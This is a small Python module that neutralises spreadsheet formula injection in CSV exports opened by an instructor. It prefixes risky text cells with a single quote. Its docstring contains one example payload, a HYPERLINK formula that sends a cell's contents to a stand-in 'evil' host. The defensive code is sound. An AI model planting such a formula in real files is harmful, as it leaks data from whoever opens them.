"""Text cells of the CSV files an instructor opens in a spreadsheet, made text.

A cell that starts with =, +, -, @, a tab or a carriage return is a formula to Excel, LibreOffice and
Google Sheets: `=HYPERLINK("http://evil/?"&A1, "ok")` in a student's id or file name would run when the
instructor opens grades.csv. Such a text cell is written after a single quote, which spreadsheets show as
text and hide. Numbers (scores) are never passed through here: "-" is Moodle's "no grade".
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text_cell(value: object) -> str:
    """`value` as a cell no spreadsheet runs."""
    text = "" if value is None else str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text
